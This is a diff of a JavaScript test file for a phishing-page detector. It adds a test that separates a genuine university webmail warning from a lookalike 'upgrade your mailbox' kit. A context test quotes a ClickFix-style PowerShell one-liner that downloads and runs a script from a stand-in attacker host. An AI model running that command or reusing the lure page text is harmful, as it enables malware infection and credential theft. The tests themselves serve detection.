@@ -739,6 +739,15 @@ describe('analysis: signal rules', () => {
       assert.ok(ids(shouted).includes('pressure-text') || ids(shouted).includes('lure-text'), JSON.stringify(ids(shouted)));
     });
 
+    it('a lure the page says it never sends is no lure: a university webmail sign-in warning that IT never asks to "upgrade your mailbox" stays clean; the kit saying it is not', () => {
+      const form = '<form method="post"><label>Username <input name="_user"></label><label>Password <input type="password" name="_pass"></label><button>Login</button></form>';
+      const own = judge('https://webmail.uni-example.example/roundcube/?_task=login', `<title>University Webmail :: Welcome</title><h1>UB Webmail</h1>${form}<p>The ICT Service Desk will never email you asking to "upgrade your mailbox" – report such mails to the service desk.</p>`);
+      assert.ok(!ids(own).includes('lure-text'), JSON.stringify(ids(own)));
+      assert.equal(own.verdict, 'clean', `${own.verdict} by ${own.decidedBy?.join(',')}`);
+      const kit = judge('https://webmail-upgrade.example/roundcube/', `<title>University Webmail :: Welcome</title><h1>UB Webmail</h1><p>Log in to upgrade your mailbox before it is closed.</p>${form}`);
+      assert.ok(ids(kit).includes('lure-text'), JSON.stringify(ids(kit)));
+    });
+
     it('a security write-up about ClickFix (its headline and text naming the campaign) with a copy button for the command it quotes stays clean', () => {
       const post = judge('https://blog.secureteam.example/posts/clickfix', '<title>ClickFix campaigns imitate Cloudflare</title><h1>ClickFix campaigns imitate Cloudflare</h1><p>The fake page says "Verify you are human. Press Win+R, then Ctrl+V and Enter."</p><pre>powershell -w hidden -c "iwr https://evil.example/a.ps1 | iex"</pre><button onclick="navigator.clipboard.writeText(document.querySelector(\'pre\').innerText)">Copy</button><p>Researchers saw the campaign on hundreds of compromised sites. The script copies the command to the clipboard when the visitor clicks the fake checkbox; the victim then runs it. Defenders should block mshta and PowerShell from the Run dialog through policy, and train users that no real CAPTCHA asks them to run anything.</p>');
       assert.equal(post.verdict, 'clean', JSON.stringify(ids(post)));
